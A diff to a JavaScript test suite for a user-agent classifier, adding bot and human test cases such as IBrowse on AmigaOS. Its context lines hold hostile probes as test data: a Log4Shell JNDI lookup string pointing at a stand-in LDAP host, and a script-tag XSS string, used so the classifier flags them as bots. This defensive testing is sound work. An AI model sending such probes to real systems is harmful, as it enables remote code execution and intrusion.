@@ -159,6 +159,7 @@ describe('classifyUserAgent', () => {
       ['a Log4Shell probe', '${jndi:ldap://x.example/a}'],
       ['a script tag', 'Mozilla/5.0 <script>alert(1)</script>'],
       ['plain words', 'Hello World'],
+      ['a compatible tuple with no browser or platform', 'Mozilla/5.0 (compatible; evc-batch/2.0.20161017175820)'],
     ])('garbage: %s is a bot', (_what, ua) => {
       expect(classifyUserAgent(ua).class).toBe('bot');
     });
@@ -171,6 +172,7 @@ describe('classifyUserAgent', () => {
     it.each([
       ['Sogou\'s mobile browser (isbot: "sogou")', 'Mozilla/5.0 (Linux; Android 10; V2001A) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.22.8'],
       ['a smart TV (isbot: "HTML/1.0;")', 'Mozilla/5.0 (Linux armv7l; CE-HTML/1.0; U; en) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 NETTV/7.0.0'],
+      ['a compatible tuple naming its platform (IBrowse on AmigaOS)', 'Mozilla/5.0 (compatible; IBrowse 3.0; AmigaOS4.0)'],
       ['an HbbTV set', 'Opera/9.80 (Linux armv7l; HbbTV/1.2.1 (; Vendor; Model; 1.0; 1.0; ); CE-HTML/1.0; en) Presto/2.12.407 Version/12.50'],
     ])('%s is a person', (_what, ua) => {
       expect(classifyUserAgent(ua).class).toBe('human');
@@ -248,7 +250,7 @@ describe('classifyUserAgent', () => {
     });
 
     it('leaves browser, os and device empty when nothing is recognised', () => {
-      expect(classifyUserAgent('Mozilla/5.0 (compatible; Foo 1.2; Bar)')).toMatchObject({ class: 'human', os: '', device: '' });
+      expect(classifyUserAgent('Mozilla/5.0 (Foo 1.2; Bar) Qux/3.1')).toMatchObject({ class: 'human', os: '', device: '' });
     });
   });
 
